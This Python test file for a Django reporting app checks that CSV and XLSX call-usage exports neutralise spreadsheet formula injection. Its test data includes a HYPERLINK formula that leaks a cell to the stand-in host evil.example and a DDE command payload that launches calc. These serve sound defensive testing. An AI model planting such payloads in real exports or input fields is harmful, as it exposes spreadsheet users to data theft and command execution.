"""Exports cannot carry formulas: CSV and XLSX cells that begin with =, +, -, @, a tab or a carriage return are
neutralised as OWASP recommends (a leading apostrophe), in the PSTN usage export's both formats (issue 15)."""
import csv
import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from core.spreadsheets import safe_text
from reporting.columns import EXPORT_HEADERS
from reporting.models import ExportJob
from tests.factories import UserFactory
from tests.reporting.factories import CallRecordFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# A carriage return is neutralised too (test_safe_text...); in a whole export it is left out here because the CSV
# writer does not quote a lone "\r" (Python's csv module quotes only its line terminator, "\n").
PAYLOADS = [PAYLOAD, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


@pytest.fixture(autouse=True)
def committed(transactional_db, settings, tmp_path):
    """COPY on PostgreSQL reads committed rows on its own connection; files go to a temporary media folder."""
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def formula_calls(tenant):
    now = timezone.now().replace(microsecond=0)
    for n, payload in enumerate(PAYLOADS):
        user = UserFactory(tenant=tenant, upn=f"f{n}@contoso.test", display_name=payload)
        CallRecordFactory(tenant=tenant, user=user, user_display_name=payload, operator=payload,
                          start_at=now - timedelta(hours=n + 1), callee_number="+447400123456")


def _export(client, fmt, capture):
    with capture(execute=True):
        response = client.post(reverse("reporting:export_start"), {"range": "28", "format": fmt})
    assert response.status_code == 302
    job = ExportJob.objects.get(pk=response["Location"].rstrip("/").split("/")[-1])
    download = client.get(reverse("reporting:export_download", args=[job.pk]))
    assert download.status_code == 200
    return b"".join(download.streaming_content)


def test_safe_text_neutralises_formulas_and_keeps_plain_numbers():
    assert [safe_text(p) for p in [*PAYLOADS, "\r=1+1"]] == [f"'{p}" for p in [*PAYLOADS, "\r=1+1"]]
    assert [safe_text(v) for v in ("+14255550100", "-0.45", "Ada", "", None)] == [
        "+14255550100", "-0.45", "Ada", "", ""]
    assert safe_text(safe_text(PAYLOAD)) == f"'{PAYLOAD}"


def test_the_csv_export_carries_no_formula(client_as, reports_reader, formula_calls,
                                           django_capture_on_commit_callbacks):
    archive = zipfile.ZipFile(io.BytesIO(_export(client_as(reports_reader), "csv", django_capture_on_commit_callbacks)))
    rows = list(csv.DictReader(io.StringIO(archive.read("PSTN usage details.csv").decode("utf-8-sig"),
                                           newline="")))
    assert sorted(row["User Display Name"] for row in rows) == sorted(f"'{p}" for p in PAYLOADS)
    assert all(row["Operator"].startswith("'") for row in rows)
    assert {row["Destination Number"] for row in rows} == {"+447400123456"}  # a plain number stays as it is


def test_the_xlsx_export_carries_no_formula(client_as, reports_reader, formula_calls,
                                            django_capture_on_commit_callbacks):
    book = openpyxl.load_workbook(io.BytesIO(_export(client_as(reports_reader), "xlsx",
                                                     django_capture_on_commit_callbacks)))
    sheet = book["PSTN usage details"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert tuple(header) == EXPORT_HEADERS
    names = [row[header.index("User Display Name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(f"'{p}" for p in PAYLOADS)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
